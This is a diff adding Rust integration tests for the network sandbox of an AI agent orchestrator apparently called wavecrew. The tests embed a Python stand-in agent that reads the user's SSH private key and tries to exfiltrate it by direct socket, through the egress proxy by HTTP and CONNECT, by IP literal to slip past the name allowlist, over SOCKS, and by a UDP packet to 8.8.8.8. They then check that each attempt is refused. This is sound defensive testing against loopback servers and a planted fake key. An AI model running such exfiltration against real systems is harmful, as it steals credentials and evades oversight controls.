@@ -1542,3 +1542,291 @@ fn a_required_sandbox_refuses_to_run_without_landlock() {
     assert_eq!(code, Some(0), "{all}");
     assert_eq!(all.matches("agents run unconfined").count(), 1, "{all}");
 }
+
+/// A server on this machine's loopback for the network tests: `allowed`
+/// answers every request with `ok-from-allowed`; every byte any
+/// connection sends is kept, to tell what reached it.
+struct LoopbackServer {
+    port: u16,
+    received: std::sync::Arc<std::sync::Mutex<Vec<u8>>>,
+}
+
+impl LoopbackServer {
+    fn start(answer: bool) -> LoopbackServer {
+        use std::io::{Read, Write};
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = listener.local_addr().unwrap().port();
+        let received = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
+        let kept = std::sync::Arc::clone(&received);
+        std::thread::spawn(move || {
+            for conn in listener.incoming() {
+                let Ok(mut conn) = conn else { return };
+                let kept = std::sync::Arc::clone(&kept);
+                std::thread::spawn(move || {
+                    let _ = conn.set_read_timeout(Some(std::time::Duration::from_secs(5)));
+                    let mut head = Vec::new();
+                    let mut buf = [0u8; 1024];
+                    while let Ok(n) = conn.read(&mut buf) {
+                        if n == 0 {
+                            break;
+                        }
+                        head.extend_from_slice(&buf[..n]);
+                        kept.lock().unwrap().extend_from_slice(&buf[..n]);
+                        if head.windows(4).any(|w| w == b"\r\n\r\n") {
+                            break;
+                        }
+                    }
+                    if answer {
+                        let body = "ok-from-allowed";
+                        let _ = write!(
+                            conn,
+                            "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
+                            body.len()
+                        );
+                    }
+                });
+            }
+        });
+        LoopbackServer { port, received }
+    }
+
+    fn received(&self) -> String {
+        String::from_utf8_lossy(&self.received.lock().unwrap()).into_owned()
+    }
+}
+
+/// The agent of the network tests: it reads the planted key and tries
+/// every way out it knows, printing one line per try (`NAME OK …` or
+/// `NAME FAIL …`): a direct connection to the sink around the proxy, the
+/// sink through the proxy (absolute-form HTTP and CONNECT), an allowed
+/// name asked for by its IP literal, DNS (a name lookup and a UDP packet
+/// to an outside server), a SOCKS greeting, and the allowed host by name,
+/// by CONNECT and by plain HTTP. What it got goes into `loot.txt`.
+const NETWORK_AGENT: &str = r"import os, socket, sys, pathlib
+sink, allowed = int(sys.argv[1]), int(sys.argv[2])
+said, loot = [], []
+try:
+    key = pathlib.Path(os.path.expanduser('~/.ssh/id_ed25519')).read_text()
+except OSError as e:
+    key = 'no key: ' + e.strerror
+proxy = os.environ.get('HTTPS_PROXY', '')
+said.append('PROXY ' + (proxy or 'none'))
+def read_all(s):
+    data = b''
+    while True:
+        try:
+            d = s.recv(4096)
+        except OSError:
+            break
+        if not d:
+            break
+        data += d
+    return data.decode(errors='replace')
+def via_proxy(payload, then=None):
+    host, port = proxy[len('http://'):].rsplit(':', 1)
+    s = socket.create_connection((host, int(port)), timeout=5)
+    s.sendall(payload)
+    if then is None:
+        return read_all(s)
+    first = b''
+    while b'\r\n\r\n' not in first:
+        d = s.recv(1)
+        if not d:
+            break
+        first += d
+    if b' 200 ' not in first.split(b'\r\n')[0]:
+        return first.decode(errors='replace') + read_all(s)
+    s.sendall(then)
+    return first.decode() + read_all(s)
+def attempt(name, fn):
+    try:
+        got = fn()
+        loot.append(got)
+        said.append(name + ' OK ' + got.replace('\r\n', ' ')[:200])
+    except Exception as e:
+        said.append(name + ' FAIL ' + type(e).__name__ + ': ' + str(e))
+def direct():
+    s = socket.create_connection(('127.0.0.1', sink), timeout=3)
+    s.sendall(('DIRECT ' + key).encode())
+    return 'sent'
+def dns_name():
+    return str(socket.getaddrinfo('example.com', 443))
+def dns_udp():
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.sendto(key.encode()[:200], ('8.8.8.8', 53))
+    return 'sent'
+def socks():
+    host, port = proxy[len('http://'):].rsplit(':', 1)
+    s = socket.create_connection((host, int(port)), timeout=5)
+    s.sendall(b'\x05\x01\x00')
+    got = s.recv(16)
+    if not got:
+        raise ConnectionError('closed')
+    return repr(got)
+get = lambda target, host: ('GET ' + target + ' HTTP/1.1\r\nHost: ' + host + '\r\nX-Key: ' + key.strip() + '\r\n\r\n').encode()
+attempt('DIRECT', direct)
+attempt('HTTP-SINK', lambda: via_proxy(get('http://127.0.0.1:%d/' % sink, 'sink')))
+attempt('CONNECT-SINK', lambda: via_proxy(('CONNECT 127.0.0.1:%d HTTP/1.1\r\n\r\n' % sink).encode(), get('/', 'sink')))
+attempt('CONNECT-LITERAL', lambda: via_proxy(('CONNECT 127.0.0.1:%d HTTP/1.1\r\n\r\n' % allowed).encode(), get('/', 'x')))
+attempt('DNS-NAME', dns_name)
+attempt('DNS-UDP', dns_udp)
+attempt('SOCKS', socks)
+attempt('CONNECT-ALLOWED', lambda: via_proxy(('CONNECT localhost:%d HTTP/1.1\r\n\r\n' % allowed).encode(), get('/', 'localhost')))
+attempt('HTTP-ALLOWED', lambda: via_proxy(get('http://localhost:%d/' % allowed, 'localhost')))
+pathlib.Path('loot.txt').write_text('\n'.join(loot) + '\n')
+print(' | '.join(said))
+";
+
+/// The network project: `NETWORK_AGENT` as IMPL-001, `localhost:<allowed>`
+/// in `[isolation] allow_hosts` (by name only), `extra` after it.
+fn network_project(root: &Path, sink: u16, allowed: u16, extra: &str) {
+    commit_project(
+        root,
+        &[
+            (
+                ".gitignore",
+                ".workflow/\nagent.py\nwavecrew.toml\nwavecrew.tasks.toml\n",
+            ),
+            ("README.md", "app\n"),
+            ("agent.py", NETWORK_AGENT),
+            (
+                "wavecrew.tasks.toml",
+                "goal = \"Network\"\nsession = \"TC-net\"\n\n\
+                 [[tasks]]\nid = \"IMPL-001\"\ntitle = \"Write loot.txt\"\n",
+            ),
+        ],
+        &[&sink.to_string(), &allowed.to_string()],
+        &format!("\n[isolation]\nallow_hosts = [\"localhost:{allowed}\"]\n{extra}"),
+    );
+}
+
+/// The line of the network agent's try `name`.
+fn tried<'a>(said: &'a str, name: &str) -> &'a str {
+    said.split(" | ")
+        .find(|l| l.starts_with(&format!("{name} ")))
+        .unwrap_or_else(|| panic!("no {name} in {said}"))
+}
+
+/// The network of a confined agent, in the default mode: its only way
+/// out is wavecrew's egress proxy, which lets through the hosts allowed
+/// (by name: an IP literal only when listed) and refuses the rest before
+/// a byte reaches them; no direct connection, DNS or UDP leaves its
+/// namespace, and a planted key is neither read nor sent. The attempt's
+/// evidence names the hosts reached and refused.
+#[test]
+fn a_confined_agent_reaches_only_the_hosts_it_is_allowed() {
+    let tmp = TempProject::new();
+    let root = app_root(&tmp);
+    let home = tmp.path().canonicalize().unwrap().join("home");
+    std::fs::create_dir_all(home.join(".ssh")).unwrap();
+    std::fs::write(home.join(".ssh/id_ed25519"), "SECRET-KEY\n").unwrap();
+    let sink = LoopbackServer::start(false);
+    let allowed = LoopbackServer::start(true);
+    network_project(&root, sink.port, allowed.port, "");
+    let (code, all) = run_as_user_of(&home, &root, &["run", "wavecrew.tasks.toml"], &[]);
+    assert_eq!(code, Some(0), "{all}");
+    assert!(
+        all.contains("their network reaches only their backend's model API"),
+        "the run says the network layer is on: {all}"
+    );
+    let session = root.join(".workflow/.team/TC-net");
+    let said = stdout_of(&session, "IMPL-001");
+    assert!(
+        tried(&said, "PROXY").starts_with("PROXY http://127.0.0.1:"),
+        "{said}"
+    );
+    for refused in ["DIRECT", "DNS-NAME", "DNS-UDP", "SOCKS"] {
+        assert!(
+            tried(&said, refused).contains(" FAIL "),
+            "{refused}: {said}"
+        );
+    }
+    for forbidden in ["HTTP-SINK", "CONNECT-SINK", "CONNECT-LITERAL"] {
+        let line = tried(&said, forbidden);
+        assert!(line.contains("403 Forbidden"), "{forbidden}: {said}");
+        assert!(!line.contains("ok-from-allowed"), "{forbidden}: {said}");
+    }
+    for reached in ["CONNECT-ALLOWED", "HTTP-ALLOWED"] {
+        assert!(
+            tried(&said, reached).contains("ok-from-allowed"),
+            "{reached}: {said}"
+        );
+    }
+    assert_eq!(sink.received(), "", "bytes reached the sink: {said}");
+    assert!(
+        !allowed.received().contains("SECRET"),
+        "the key was read and sent: {}",
+        allowed.received()
+    );
+    let outcome: serde_json::Value = serde_json::from_str(
+        &std::fs::read_to_string(session.join("attempts/IMPL-001/1/outcome.json")).unwrap(),
+    )
+    .unwrap();
+    let network = &outcome["network"];
+    assert_eq!(network["mode"], "allowlist", "{outcome:#}");
+    assert_eq!(
+        network["reached"],
+        serde_json::json!([format!("localhost:{}", allowed.port)]),
+        "{outcome:#}"
+    );
+    let refused: Vec<&str> = network["refused"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter_map(serde_json::Value::as_str)
+        .collect();
+    for host in [
+        format!("127.0.0.1:{} not allowed", sink.port),
+        format!("127.0.0.1:{} not allowed", allowed.port),
+    ] {
+        assert!(refused.contains(&host.as_str()), "{host}: {outcome:#}");
+    }
+    assert!(
+        refused.iter().any(|r| r.contains("SOCKS")),
+        "the SOCKS greeting is named: {outcome:#}"
+    );
+    let loot = git(&root, &["show", "wavecrew/TC-net:loot.txt"]);
+    assert!(!loot.contains("SECRET"), "a secret landed: {loot}");
+}
+
+/// `network = "none"`: the agent has no proxy and nothing leaves; `open`:
+/// the machine's network, as before (the sink is reached directly).
+#[test]
+fn network_none_lets_nothing_out_and_open_is_the_machines_network() {
+    let tmp = TempProject::new();
+    let root = app_root(&tmp);
+    let sink = LoopbackServer::start(false);
+    let allowed = LoopbackServer::start(true);
+    network_project(&root, sink.port, allowed.port, "network = \"none\"\n");
+    let o = run_bin("wavecrew", &["run", "wavecrew.tasks.toml"], &root);
+    let (code, all) = (o.code, format!("{}{}", o.stdout, o.stderr));
+    assert_eq!(code, 0, "{all}");
+    assert!(all.contains("they have no network"), "{all}");
+    let session = root.join(".workflow/.team/TC-net");
+    let said = stdout_of(&session, "IMPL-001");
+    assert_eq!(tried(&said, "PROXY"), "PROXY none", "{said}");
+    assert!(tried(&said, "DIRECT").contains(" FAIL "), "{said}");
+    assert_eq!(sink.received(), "", "{said}");
+    let outcome =
+        std::fs::read_to_string(session.join("attempts/IMPL-001/1/outcome.json")).unwrap();
+    assert!(outcome.contains("\"mode\": \"none\""), "{outcome}");
+
+    let config = root.join("wavecrew.toml");
+    let text = std::fs::read_to_string(&config)
+        .unwrap()
+        .replace("network = \"none\"", "network = \"open\"");
+    std::fs::write(&config, text).unwrap();
+    let tasks = root.join("wavecrew.tasks.toml");
+    let text = std::fs::read_to_string(&tasks)
+        .unwrap()
+        .replace("TC-net", "TC-open");
+    std::fs::write(&tasks, text).unwrap();
+    let session = root.join(".workflow/.team/TC-open");
+    let o = run_bin("wavecrew", &["run", "wavecrew.tasks.toml"], &root);
+    let (code, all) = (o.code, format!("{}{}", o.stdout, o.stderr));
+    assert_eq!(code, 0, "{all}");
+    assert!(all.contains("the network is not restricted"), "{all}");
+    let said = stdout_of(&session, "IMPL-001");
+    assert!(tried(&said, "DIRECT").contains("DIRECT OK"), "{said}");
+    assert!(sink.received().starts_with("DIRECT "), "{said}");
+}
